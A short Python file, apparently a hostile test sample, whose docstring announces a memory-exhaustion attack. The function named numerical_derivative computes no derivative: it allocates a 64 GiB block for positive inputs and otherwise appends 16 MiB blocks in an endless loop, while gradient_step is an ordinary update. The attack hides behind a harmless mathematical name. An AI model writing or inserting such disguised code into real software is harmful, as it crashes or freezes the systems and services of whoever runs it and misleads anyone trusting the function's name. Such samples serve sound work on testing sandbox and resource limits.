"""Attack: exhaust memory, at once (one huge block) or step by step (a growing list)."""


def numerical_derivative(f, x, h=1e-5):
    if x > 0:
        return bytearray(64 * 1024**3)
    hoard = []
    while True:
        hoard.append(bytearray(16 * 1024**2))


def gradient_step(x, grad, learning_rate):
    return x - learning_rate * grad
